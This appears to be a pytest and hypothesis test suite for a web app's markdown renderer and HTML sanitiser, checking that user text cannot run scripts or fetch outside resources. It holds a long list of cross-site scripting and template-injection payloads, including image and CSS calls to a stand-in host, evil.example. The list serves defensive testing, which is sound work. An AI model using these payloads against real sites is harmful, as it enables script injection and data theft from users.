"""Nothing that a text contains may run, fetch, or reach beyond its place in the page (L1, L2, L3, L5, L6)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.lib.markup import Page, page
from webapp.lib import markdown
from webapp.lib.markdown.sanitiser import clean

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<style>@import url(//evil.example)</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    "<link rel=prefetch href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>",
    "<object data=x><embed src=x><video src=//evil.example/x autoplay><audio src=//evil.example/x>",
    "<math href=javascript:alert(1)><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://example.com" onclick=alert(1) id=x class=btn-primary name=csrf_token>x</a>',
    "<button type=submit formaction=//evil.example data-copy>x</button>",
    "<div class=code hidden data-bs-toggle=modal>x",
    "<b <script>alert(1)</script>",
    "<!-- <img src=x onerror=alert(1)> --> <![CDATA[<script>]]> <?php x ?> <!DOCTYPE x>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd) [x](blob:x) [x](about:blank) [x](//evil.example) [x](\\\\evil.example)",
    '[x](https://example.com/"onmouseover="alert(1))',
    "[x](https://example.com 'title\" onclick=\"alert(1)')",
    '<javascript:alert(1)> <data:text/html,x> <https://example.com/"><script>>',
    "![x](https://evil.example/leak?q=1)",
    "![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    'https://example.com/"onmouseover=alert(1) https://example.com/<script>',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | `|` |",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$ $\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    '$\\text{<a href="https://evil.example">x</a>}$ $\\mbox{<button data-copy>}$',
    "$\\href{javascript:alert(1)}{x}$ $\\href{https://evil.example}{x}$ $\\url{javascript:alert(1)}$",
    "$\\style{background:url(//evil.example)}{x}$ $\\class{btn-primary}{x}$ $\\cssId{x}{y}$",
    '$\\color{red" onclick="alert(1)}{x}$ $\\colorbox{red}{x}$ $\\hspace{99999em}x$ $\\rule{9999em}{9999em}$',
    "$\\unicode{x3c}\\unicode{x69}$ $\\includegraphics{//evil.example/x.png}$ $\\verb|<script>|$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "\\[\\frac{</mfrac><script>alert(1)</script>}{x}\\]",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{config.items()}} {{''.__class__}}",
    "a\0b <scr\0ipt>alert(1)</scr\0ipt> [x](java\0script:alert(1))",
    "\ufeff<script>alert(1)</script>\u2028<script>",
    "\ud800<script>alert(1)</script>".encode("utf-8", "replace").decode(),
    "# <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>\n\n- <svg onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)><dialog open>",
    "[x]: javascript:alert(1)\n\n[x] [y][x]",
    "**<script>**alert(1)**</script>**",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &NotExists; &#0; &#xD800;",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_whole(payload: str) -> None:
    page(payload)
    page(
        f"text {payload} text\n\n- {payload}\n\n> {payload}\n\n**{payload}** [{payload}](https://example.com)"
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cut_at_every_position(payload: str) -> None:
    """Each block on its own is whole and harmless, wherever the text was cut on its way."""
    for cut in range(len(payload) + 1):
        splitter, start, html = markdown.BlockSplitter(), 0, ""
        for end in [*splitter.feed(payload[:cut]), *splitter.feed(payload[cut:]), *splitter.finish()]:
            block = markdown.render_block(payload[start:end])
            assert not Page(block).faults
            html, start = html + block, end
        assert html == markdown.render(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_piece_taken_for_a_block(payload: str) -> None:
    """Even what is no block at all, such as the text so far, is harmless."""
    for cut in range(len(payload) + 1):
        assert not Page(markdown.render_block(payload[:cut])).faults
        assert not Page(markdown.render_block(payload[cut:])).faults


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_would_do(payload: str) -> None:
    """If the parser or the writer ever let something through, it would still end here."""
    assert not Page(clean(payload)).faults
    assert not Page(clean(f"<p>{payload}</p><math><mtext>{payload}</mtext></math>")).faults


def test_html_is_shown_as_text() -> None:
    assert page("<script>alert(1)</script> <b>x</b>").text.strip() == "<script>alert(1)</script> <b>x</b>"


def test_templates_are_shown_as_text() -> None:
    assert page("{{7*7}} {% raw %}").text.strip() == "{{7*7}} {% raw %}"


def test_pictures_are_not_fetched() -> None:
    read = page("![a](https://evil.example/a.png) ![b](http://127.0.0.1/b) <img src=//evil.example/c>")
    assert read.links == ["https://evil.example/a.png", "http://127.0.0.1/b"]
    assert "img" not in read.tags


def test_a_formula_has_no_links_or_words_of_its_own() -> None:
    read = page('$\\href{https://evil.example}{x}$ $\\text{<a href="https://evil.example">y</a>}$')
    assert read.links == []
    assert read.tags.count("math") == 2


def test_a_formula_cannot_make_endless_space() -> None:
    assert "99999" not in markdown.render(r"$\hspace{99999em}x$ $\rule{99999em}{1em}$ $\kern99999em x$")


PIECES = st.sampled_from(
    [
        "<script>",
        "</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:",
        "](",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        '"',
        "'",
        "`",
        "```",
        "\n",
        "\n\n",
        "$",
        "$$",
        "\\text{",
        "}",
        "{",
        "\\href{",
        "**",
        "*",
        "_",
        "~~",
        "![",
        "https://evil.example/",
        "&lt;",
        "&#60;",
        "<!--",
        "-->",
        '<a href="',
        "",
        " a ",
        " b ",
        "\n",
        "--",
        "--",
        "\n",
        "- ",
        "1. ",
        "> ",
        "    ",
        "\x00",
        "\r",
        "\\[",
        "\\]",
        "\\(",
        "\\)",
        "#",
        "data:",
        "x",
    ]
)


@settings(max_examples=500)
@given(st.lists(PIECES, max_size=20).map("".join))
def test_anything_made_of_dangerous_pieces(source: str) -> None:
    page(source)


@settings(max_examples=200)
@given(st.text())
def test_any_text(source: str) -> None:
    page(source)
